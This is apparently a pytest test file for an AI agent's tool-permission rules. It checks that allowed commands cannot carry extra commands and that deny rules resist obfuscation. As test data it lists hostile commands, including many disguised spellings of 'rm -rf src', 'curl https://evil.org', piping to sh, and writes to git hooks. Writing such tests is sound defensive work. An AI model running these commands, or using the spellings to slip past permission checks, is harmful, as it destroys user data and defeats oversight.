"""Rules: an allowing one cannot be ridden, a forbidding one cannot be walked around."""

from pathlib import Path

import pytest
from tests.unit.policy.places import called, place_in

from nightclaw.core.effects import ResolvedCall
from nightclaw.core.errors import Invalid
from nightclaw.policy.place import Place
from nightclaw.policy.rules import ToolRule, allowing, forbidding


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Place:
    return place_in(tmp_path_factory.mktemp("rules"))


def allows(rule: str, call: ResolvedCall) -> bool:
    return allowing([ToolRule.parse(r) for r in rule.split("; ")], call) is not None


def forbids(rule: str, call: ResolvedCall) -> bool:
    return forbidding([ToolRule.parse(rule)], call) is not None


RIDERS = [
    "pytest -q && rm -rf src",
    "pytest -q; curl https://evil.org",
    "pytest | sh",
    "pytest $(rm x)",
    "pytest `rm x`",
    "pytest <(curl https://evil.org)",
    "pytest &\nrm x",
    "pytest > .git/hooks/pre-commit",
    "pytest > src/a.py",
    "LD_PRELOAD=./x.so pytest",
    "sudo pytest",
    "pytest || git push",
    "'pytest -q' x",
    "pytestx",
    "./pytest",
    "f() { rm x; }; pytest; f",
    "pytest <<E\n$(rm x)\nE",
    "pytest 'open",
]


@pytest.mark.parametrize("command", RIDERS)
def test_nothing_rides_on_an_allowed_prefix(place: Place, command: str) -> None:
    assert not allows("Bash(pytest *)", called(place, "Bash", {"command": command}))


@pytest.mark.parametrize(
    "command",
    [
        "pytest",
        "pytest -q tests/a.py",
        "pytest -q | tail -5",
        "cd src && pytest -q 2>&1",
        "timeout 60 pytest -q",
        "bash -c 'pytest -q'",
        "LC_ALL=C pytest",
        "pytest -q; echo done",
    ],
)
def test_reads_may_stand_beside_what_is_allowed(place: Place, command: str) -> None:
    assert allows("Bash(pytest *)", called(place, "Bash", {"command": command}))


def test_several_rules_cover_together(place: Place) -> None:
    call = called(place, "Bash", {"command": "ruff check . && pytest -q"})
    assert not allows("Bash(pytest *)", call)
    assert allows("Bash(pytest *); Bash(ruff check *)", call)
    assert allows("Bash(npm run test:*)", called(place, "Bash", {"command": "npm run test:unit"})) is False
    assert allows("Bash(npm run test:*)", called(place, "Bash", {"command": "npm run test --watch"}))
    assert allows("Bash(npm run test*)", called(place, "Bash", {"command": "npm run test:unit"}))


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf src",
        "rm -fr src",
        "rm -r -f src",
        "rm src -rf",
        "rm --recursive --force src",
        "rm -rfv -- src",
        "/bin/rm -rf src",
        "r''m -rf src",
        "\\rm -rf src",
        "$'\\x72m' -rf src",
        "sudo rm -rf src",
        "env A=1 rm -rf src",
        "timeout 5 nice rm -rf src",
        "sh -c 'cd x; rm -rf src'",
        "bash -c \"sh -c 'rm -rf src'\"",
        "eval 'rm -rf src'",
        "find . -name x -exec rm -rf {} +",
        "ls | xargs rm -rf",
        "true && { ls; rm -rf src; }",
        "if true; then rm -rf src; fi",
        "echo $(rm -rf src)",
        "f() { rm -rf src; }; f",
        "RM -rf src",
        "busybox rm -rf src",
        "rm -rf src &&& ls",
    ],
)
def test_no_spelling_walks_around_a_deny(place: Place, command: str) -> None:
    assert forbids("Bash(rm -rf *)", called(place, "Bash", {"command": command}))


@pytest.mark.parametrize(
    "command", ["rm src/a.py", "rm -r src", "echo 'rm -rf src'", "grep 'rm -rf' README.md", "rmdir x"]
)
def test_a_deny_hits_only_what_it_names(place: Place, command: str) -> None:
    assert not forbids("Bash(rm -rf *)", called(place, "Bash", {"command": command}))


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("Edit", {"file_path": "migrations/1.sql", "old_string": "a", "new_string": "b"}),
        ("Write", {"file_path": "./migrations/new/2.sql", "content": "x"}),
        ("Write", {"file_path": "src/../migrations/2.sql", "content": "x"}),
        ("Bash", {"command": "sed -i s/a/b/ migrations/1.sql"}),
        ("Bash", {"command": "echo x > migrations/1.sql"}),
        ("Bash", {"command": "cd migrations && touch x"}),
        ("Bash", {"command": "rm -rf migrations"}),
        ("Bash", {"command": "rm -rf ."}),
        ("Bash", {"command": "mv src/a.py migrations/"}),
    ],
)
def test_a_guarded_folder_is_guarded_from_every_tool(place: Place, tool: str, args: dict[str, str]) -> None:
    assert forbids("Edit(migrations/**)", called(place, tool, args))


def test_reading_is_not_editing(place: Place) -> None:
    for tool, args in (
        ("Read", {"file_path": "migrations/1.sql"}),
        ("Bash", {"command": "cat migrations/1.sql"}),
    ):
        call = called(place, tool, args)
        assert not forbids("Edit(migrations/**)", call)
        assert forbids("Read(migrations/**)", call)
        assert forbids("Read(*.sql)", call)
        assert not forbids("Read(*.py)", call)
    assert not forbids("Edit(migrations/**)", called(place, "Bash", {"command": "touch src/migrations.py"}))


def test_paths_may_be_absolute_or_of_the_owner(place: Place) -> None:
    assert forbids("Read(/etc/**)", called(place, "Read", {"file_path": "/etc/hosts"}))
    assert not forbids("Read(/etc/**)", called(place, "Read", {"file_path": "etc/hosts"}))
    outside = called(place, "Read", {"file_path": "/home/someone/notes/x.md"})
    assert forbids("Read(~/notes/*)", outside)


def test_an_edit_rule_allows_edits_in_its_folder_only(place: Place) -> None:
    inside = called(place, "Write", {"file_path": "src/a.py", "content": "x"})
    assert allows("Edit(src/**)", inside)
    assert not allows("Edit(docs/**)", inside)
    assert not allows("Edit(src/**)", called(place, "Write", {"file_path": "src/../a.py", "content": "x"}))
    assert not allows("Edit(src/**)", called(place, "Bash", {"command": "touch src/a.py"}))


@pytest.mark.parametrize(
    ("rule", "command", "hit"),
    [
        ("Git(push)", "git push origin x", True),
        ("Git(push)", "sh -c 'git -C . push'", True),
        ("Git(push)", "git status", False),
        ("Git(push * main)", "git push origin main", True),
        ("Git(push * main)", "git push origin HEAD:refs/heads/main", True),
        ("Git(push * main)", "git push", True),
        ("Git(push * main)", "git push --all", True),
        ("Git(push * main)", "git push origin fix", False),
        ("Git(commit)", "git commit -m x", True),
        ("Git(stash)", "git stash", True),
        ("GitHub(comment)", "gh issue comment 1 -b x", True),
        ("GitHub(comment)", "gh api repos/o/r/issues/1/comments", True),
        ("GitHub(comment)", "gh pr view", False),
        ("WebFetch(domain:evil.org)", "curl https://evil.org/x", True),
        ("WebFetch(domain:*.evil.org)", "wget http://a.evil.org", True),
        ("WebFetch(domain:evil.org)", "curl https://good.org/", False),
    ],
)
def test_rules_of_other_tools_reach_the_command_line(
    place: Place, rule: str, command: str, hit: bool
) -> None:
    assert forbids(rule, called(place, "Bash", {"command": command})) is hit


def test_git_and_github_rules(place: Place) -> None:
    push = called(place, "Git", {"action": "push"})
    assert forbids("Git(push)", push) and forbids("Git", push) and allows("Git(push)", push)
    assert not forbids("Git(push * main)", push) and not forbids("Git(commit)", push)
    assert forbids("Git(push * nightclaw/*)", push)
    comment = called(place, "GitHub", {"action": "comment", "body": "x"})
    assert forbids("GitHub(comment)", comment) and not forbids("GitHub(label)", comment)
    assert allows("GitHub(comment)", comment) and not allows("GitHub(label)", comment)


def test_a_bare_rule_is_the_whole_tool(place: Place) -> None:
    call = called(place, "Bash", {"command": "ls; rm x"})
    assert forbids("Bash", call) and allows("Bash", call) and forbids("*", call) and not forbids("Ba", call)
    assert forbids("mcp__files__*", called(place, "mcp__files__read", {}))


@pytest.mark.parametrize("text", ["", "Bash(", "Bash()", "(x)", "rm -rf *", "Bash(x) y"])
def test_what_is_no_rule_is_refused(text: str) -> None:
    with pytest.raises(Invalid):
        ToolRule.parse(text)


def test_a_rule_reads_back_as_it_was_written() -> None:
    for text in ("Bash", "Bash(pytest *)", "WebFetch(domain:docs.python.org)", "Edit(a (b)/**)"):
        assert str(ToolRule.parse(text)) == text


def test_the_home_in_paths_is_not_the_workspaces(place: Place) -> None:
    assert Path(place.workspace.root).is_dir()
    assert not forbids(
        "Edit(README.md)", called(place, "Write", {"file_path": "/etc/README.md", "content": ""})
    )
